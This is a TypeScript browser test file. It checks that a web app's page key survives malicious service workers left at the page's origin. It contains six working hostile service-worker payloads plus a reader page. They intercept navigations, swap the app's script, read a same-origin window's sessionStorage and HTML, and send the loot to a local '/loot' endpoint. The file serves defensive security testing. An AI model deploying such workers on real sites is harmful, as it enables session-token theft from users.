/**
 * Service workers that another program left at the very address of the page, in a real browser: they get no
 * key, and are gone in the end. A proxy stands for that program, until its worker is registered.
 */
import { once } from 'node:events'
import { createServer, request, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect } from 'vitest'
import { launchBrowser, noBrowser } from '../attacks/browser.ts'
import {
  type RunningAuthorizationServer,
  startAuthorizationServer,
} from '../support/authorization-server.ts'
import { itNeeds } from '../support/needs.ts'
import { until } from '../support/until.ts'
import { type Scene, wellScene } from './scenes.ts'

const it = itNeeds(noBrowser)

let server: RunningAuthorizationServer
let scene: Scene
let browser: Browser
let proxy: Server
/** What the program serves at an address, by path, as long as it runs. */
let served: ReadonlyMap<string, string> | undefined
/** What its worker saw. */
let loot: string[]

beforeAll(async () => {
  if (noBrowser !== undefined) return
  server = await startAuthorizationServer()
  scene = await wellScene(server)
  proxy = createServer((asked, answer) => {
    const { pathname, search } = new URL(asked.url ?? '')
    if (pathname === '/loot') loot.push(decodeURIComponent(search))
    const body = served?.get(pathname)
    if (body !== undefined || pathname === '/loot') {
      const type = pathname.endsWith('.js') ? 'text/javascript' : 'text/html'
      answer.writeHead(200, { 'Content-Type': type }).end(body)
      return
    }
    const { method, headers } = asked
    asked.pipe(
      request(asked.url ?? '', { method, headers, agent: false }, (theirs) => {
        answer.writeHead(theirs.statusCode ?? 0, theirs.headers)
        theirs.pipe(answer)
      }).on('error', () => answer.destroy()),
    )
  }).listen(0, '127.0.0.1')
  await once(proxy, 'listening')
  const { port } = proxy.address() as AddressInfo
  browser = await launchBrowser([
    `--proxy-server=http://127.0.0.1:${port}`,
    '--proxy-bypass-list=<-loopback>',
  ])
})

afterAll(async () => {
  if (noBrowser !== undefined) return
  await Promise.all([browser.close(), scene[Symbol.asyncDispose](), server.close()])
  proxy.closeAllConnections()
  proxy.close()
})

/** Sends what it is given to the program, past the fetch handler. */
const STEAL = `
self.addEventListener('install', () => self.skipWaiting())
self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()))
const steal = (text) => fetch('/loot?' + encodeURIComponent(text.slice(0, 6000)))
const page = (body) => new Response(body, { headers: { 'Content-Type': 'text/html', 'Cross-Origin-Opener-Policy': 'same-origin' } })
const isLoot = (event) => event.request.url.includes('/loot?')
const stealAnswer = async (promised) => {
  const answer = await promised
  await steal(await answer.clone().text())
  return answer
}
`

/** Reads what a window of the same origin has got. */
const READER = `<main>The shell of a web app</main><script>
const link = location.pathname
const other = window.open(link)
setInterval(() => {
  try {
    const key = other.sessionStorage.getItem('evo-token-page-key')
    fetch('/loot?' + encodeURIComponent('window ' + key + other.document.documentElement.outerHTML))
  } catch {}
}, 50)
</script>`

const WORKERS: Readonly<Record<string, string>> = {
  'answers every visit with a page of its own': `
self.addEventListener('fetch', (event) => {
  if (event.request.mode !== 'navigate') return
  steal('visit ' + event.request.url)
  event.respondWith(page('<main>The shell of a web app</main>'))
})`,
  'fetches the page itself and reads it': `
self.addEventListener('fetch', (event) => {
  if (!isLoot(event)) event.respondWith(stealAnswer(fetch(event.request)))
})`,
  'has the browser fetch the page for it': `
self.addEventListener('activate', (event) => event.waitUntil(self.registration.navigationPreload.enable()))
self.addEventListener('fetch', (event) => {
  if (event.request.mode !== 'navigate') return
  steal('visit ' + event.request.url)
  event.respondWith(stealAnswer(event.preloadResponse))
})`,
  'lets visits pass and watches what the page asks': `
self.addEventListener('fetch', (event) => {
  if (isLoot(event) || event.request.mode === 'navigate') return
  const { url, headers } = event.request
  steal(url + JSON.stringify([...headers]))
  event.respondWith(stealAnswer(fetch(event.request)))
})`,
  'puts its own script in the place of ours': `
self.addEventListener('fetch', (event) => {
  const { pathname } = new URL(event.request.url)
  if (isLoot(event) || event.request.mode === 'navigate') return
  if (pathname !== '/page.js') return
  steal('script')
  const script = \`fetch('/loot?' + encodeURIComponent(document.documentElement.outerHTML))\`
  event.respondWith(new Response(script, { headers: { 'Content-Type': 'text/javascript' } }))
})`,
  'opens the link in a window that a page of its own can read': `
self.addEventListener('fetch', (event) => {
  if (event.request.mode !== 'navigate' || event.request.referrer !== '') return
  steal('visit ' + event.request.url)
  event.respondWith(page(\`${READER}\`))
})`,
}

/** The page opened by a person, again where it says so. Resolves with its key. */
async function openUntilLive(page: Page): Promise<string> {
  const live = page.getByRole('status').getByText('live')
  await until(
    'the page is live',
    async () => {
      await page.goto(await scene.link())
      return live.waitFor({ timeout: 5_000 }).then(
        () => true,
        () => false,
      )
    },
    (isLive) => isLive,
  )
  return page.evaluate<string>('sessionStorage.getItem("evo-token-page-key")')
}

describe('a service worker that another program left at the address of the page, and that', () => {
  for (const [what, code] of Object.entries(WORKERS)) {
    it(`${what}, gets no key and is gone in the end`, async () => {
      const context = await browser.newContext()
      const { origin } = new URL(await scene.link())
      loot = []
      served = new Map([
        ['/', '<title>In development</title>'],
        ['/sw.js', STEAL + code],
      ])
      const page = await context.newPage()
      await page.goto(origin)
      await page.evaluate(
        `navigator.serviceWorker.register('/sw.js').then(() => navigator.serviceWorker.ready).then(() => true)`,
      )
      served = undefined
      loot = []
      const key = await openUntilLive(page)
      expect(Buffer.from(key, 'base64url')).toHaveLength(32)
      expect(loot.length, 'what it saw').toBeGreaterThan(0)
      expect(loot.join('\n')).not.toMatch(
        /(?:evo-token-page-key"(?:,| content=)"|window )[\w-]{43}/,
      )
      expect(loot.join('\n')).not.toContain(key)
      const left = `navigator.serviceWorker.getRegistrations().then(({ length }) => length)`
      expect(await page.evaluate(left)).toBe(0)
      await page.reload()
      await page.getByRole('status').getByText('live').waitFor()
      await context.close()
    })
  }
})
